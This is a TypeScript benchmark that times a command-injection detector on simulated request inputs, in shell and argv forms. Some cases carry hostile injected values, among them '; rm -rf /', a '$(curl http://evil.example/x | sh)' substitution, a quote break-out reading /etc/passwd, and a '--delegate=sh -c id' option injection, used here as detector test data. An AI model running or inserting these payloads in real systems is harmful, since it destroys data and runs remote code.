import { detectCommandInjection } from '../lib/detectors/command';
import { analyseShell } from '../lib/detectors/shell';
import type { SpawnResource, TaintInput } from '../lib/types';
import { fmt, nsPerCall, type BenchResult, runStandalone, benchInput, requestHeaders } from './lib';

/**
 * Micro benchmark of the command-injection detector (shell and argv forms):
 * µs per call against the 25 inputs of a realistic request, one of which
 * (`query.file`) the app put into the command. Each figure is the median of
 * several rounds of many calls.
 */

const ITERATIONS = Number(process.env.BENCH_SHELL_ITERATIONS ?? 5_000);
const ROUNDS = 7;

const input = benchInput;

function requestInputs(x: string): TaintInput[] {
  return [
    input('path', '/api/reports/render'),
    input('path[1]', 'api'),
    input('path[2]', 'reports'),
    input('path[3]', 'render'),
    input('query.format', 'pdf'),
    input('query.page', '3'),
    input('query.lang', 'en'),
    ...requestHeaders('https://app.example.com/reports?tab=recent'),
    input('cookies.sid', 's%3AqY0mJ1n8oWc2Vf9d.K3x1yq8aXvLr0pZ2mN5tB7uC9wE4fG6hJ8kL0oP2rS4'),
    input('cookies.theme', 'dark'),
    input('body.title', 'Quarterly report'),
    input('body.owner', 'alice@example.com'),
    input('body.notes', "Please review by Friday — it's urgent"),
    input('body.pages', '12'),
    input('query.file', x),
  ];
}

function shell(command: string): SpawnResource {
  return { file: '/bin/sh', args: ['-c', command], shell: true, command };
}

interface Case {
  case: string;
  fn: () => unknown;
  /** Checked before timing, so each row stays what it says (undefined: not a detector call). */
  finding?: boolean;
}

function cases(): Case[] {
  const out: Case[] = [];
  const shellCase = (name: string, template: (x: string) => string, x: string): void => {
    const r = shell(template(x));
    const inputs = requestInputs(x);
    out.push({ case: `shell: ${name}`, fn: () => detectCommandInjection(r, inputs), finding: name.endsWith('(attack)') });
  };
  const convert = (x: string): string => `convert /srv/reports/${x} -quality 85 /tmp/out.pdf`;
  shellCase('file name in a command (benign)', convert, 'q3-summary.png');
  shellCase('quoted argument with spaces (benign)', (x) => `grep -c '${x}' /var/log/app.log`, 'Quarterly report');
  shellCase('no input in the command (allow path)', () => 'ls -la /srv/reports | wc -l', 'q3-summary.png');
  shellCase('`; rm -rf /` (attack)', convert, 'x.png; rm -rf /');
  shellCase('$(curl …) substitution (attack)', convert, '$(curl http://evil.example/x | sh).png');
  shellCase('quote break-out (attack)', (x) => `grep -c '${x}' /var/log/app.log`, "x' /etc/passwd; echo '");
  const argv = (name: string, args: string[], x: string): void => {
    const r: SpawnResource = { file: 'convert', args, shell: false };
    const inputs = requestInputs(x);
    out.push({ case: `argv: ${name}`, fn: () => detectCommandInjection(r, inputs), finding: name.endsWith('(attack)') });
  };
  argv('file name as one argument (benign)', ['/srv/reports/q3-summary.png', '-quality', '85', '/tmp/out.pdf'], 'q3-summary.png');
  argv('option injection `--delegate=…` (attack)', ['--delegate=sh -c id', '/tmp/out.pdf'], '--delegate=sh -c id');
  const long = `cd /srv/app && git fetch --prune origin && git log --oneline -n 20 origin/main -- src/ | grep -v 'Merge' | awk '{print $1}' | head -5`;
  out.push({ case: `analyseShell: ${long.length}-char pipeline`, fn: () => analyseShell(long) });
  return out;
}

export async function run(): Promise<BenchResult> {
  const rows: Array<Record<string, string | number>> = [];
  let sink = 0;
  for (const c of cases()) {
    if (c.finding !== undefined && (c.fn() !== undefined) !== c.finding) throw new Error(`${c.case}: expected finding=${c.finding}`);
    const ns = nsPerCall(() => {
      if (c.fn() !== undefined) sink++;
    }, ITERATIONS, ROUNDS);
    rows.push({ case: c.case, 'µs/call (median)': fmt(ns / 1000, 3) });
  }
  if (sink < 0) rows.push({ case: 'unreachable', 'µs/call (median)': sink });
  return {
    name: 'Command-injection detector (micro)',
    rows,
    notes: [`Median over ${ROUNDS} rounds of ${ITERATIONS} calls each; every detector call sees the 25 inputs of one request.`],
  };
}

if (require.main === module) runStandalone(run);
